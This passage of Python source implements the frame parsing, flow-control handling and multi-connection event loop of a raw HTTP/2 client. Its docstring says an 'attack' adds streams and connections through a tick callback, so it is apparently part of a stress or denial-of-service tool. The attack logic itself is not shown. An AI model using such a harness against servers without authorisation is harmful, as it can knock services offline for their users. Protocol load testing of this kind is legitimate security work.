                    queue.pop(0)
                    if not queue:
                        del self.pending[sid]
                else:
                    item[1] = off + take
                if self.send_window <= 0 or len(self.out) >= self.OUT_HIGH:
                    return

    def _parse(self) -> None:
        buf, pos = self.inbuf, 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            self.counts.frames_received += 1
            self._on_frame(kind, flags, sid, payload)
        del buf[:pos]

    def _on_frame(self, kind: int, flags: int, sid: int, payload: bytes) -> None:
        if kind == DATA:
            if flags & END_STREAM:
                self._ended(sid)
        elif kind in (HEADERS, CONTINUATION):
            self._on_header_fragment(kind, flags, sid, payload)
        elif kind == RST_STREAM:
            code = struct.unpack(">I", payload[:4])[0]
            self.counts.resets[code] = self.counts.resets.get(code, 0) + 1
            self._ended(sid)
        elif kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.peer_initial
                    self.peer_initial = value
                    for s in self.windows:
                        self.windows[s] += delta
                elif key == SETTINGS_MAX_CONCURRENT_STREAMS:
                    self.peer_max_streams = value
            self.raw(frame(SETTINGS, ACK, 0, b""))
        elif kind == PING and not flags & ACK:
            self.raw(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            code = struct.unpack(">I", payload[4:8])[0]
            debug = payload[8:].decode("utf-8", "replace")
            key = f"{code:#x}" + (f":{debug}" if debug else "")
            if self.goaway is None:
                self.goaway = code
                self.counts.goaways[key] = self.counts.goaways.get(key, 0) + 1
        elif kind == WINDOW_UPDATE:
            increment = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
            if sid == 0:
                self.send_window += increment
            elif sid in self.windows:
                self.windows[sid] += increment

    def _on_header_fragment(self, kind: int, flags: int, sid: int, payload: bytes) -> None:
        if kind == HEADERS:
            if flags & PADDED:
                payload = payload[1:len(payload) - payload[0]]
            if flags & PRIORITY:
                payload = payload[5:]
            self._block = (sid, flags, bytearray(payload))
        elif self._block is not None:
            self._block[2].extend(payload)
        if not flags & END_HEADERS or self._block is None:
            return
        stream, first_flags, block = self._block
        self._block = None
        try:
            headers = self.decoder.decode(bytes(block))
        except Exception:  # a table out of step: counts stay right for everything else
            headers = []
        for name, value in headers:
            if name in (b"grpc-status", "grpc-status"):
                v = value.decode() if isinstance(value, bytes) else value
                self.counts.grpc_status[v] = self.counts.grpc_status.get(v, 0) + 1
        if first_flags & END_STREAM:
            self._ended(stream)

    def _ended(self, sid: int) -> None:
        if self.windows.pop(sid, None) is not None:
            self.pending.pop(sid, None)
            self.counts.streams_ended += 1
            if self.on_end is not None:
                self.on_end(self, sid)


def pump(clients: list[H2Client], until: float, stop=None,
         tick: Callable[[], None] | None = None, tick_every: float = 0.05) -> None:
    """Drives ``clients`` (reads, answers, writes) from this thread until the monotonic clock
    passes ``until``, ``stop`` (a ``threading.Event``) is set, or (without a ``tick``) every
    client is closed.
    ``tick`` runs at least every ``tick_every`` seconds: the attack adds streams and data there
    (it may append new clients to ``clients``)."""
    sel = selectors.DefaultSelector()
    masks: dict[H2Client, int] = {}
    try:
        while time.monotonic() < until and not (stop is not None and stop.is_set()):
            if tick is not None:
                tick()
            # Closed ones first: a new connection may have been given a closed one's fd.
            for c in [c for c in masks if c.closed]:
                sel.unregister(c.sock)
                del masks[c]
            for c in clients:
                if c.closed:
                    continue
                mask = selectors.EVENT_READ | (selectors.EVENT_WRITE if c.wants_write() else 0)
                old = masks.get(c)
                if old is None:
                    sel.register(c.sock, mask, c)
                elif mask != old:
                    sel.modify(c.sock, mask, c)
                masks[c] = mask
            if not masks:
                if tick is None:
                    return  # every client closed, and nothing can open another
                time.sleep(tick_every)  # nothing to wait on but the tick
                continue
            wait = max(0.0, min(tick_every, until - time.monotonic()))
            for key, events in sel.select(timeout=wait):
                c = key.data
                if events & selectors.EVENT_READ:
                    c.on_readable()
                if events & selectors.EVENT_WRITE and not c.closed:
                    c.on_writable()
    finally:
        sel.close()
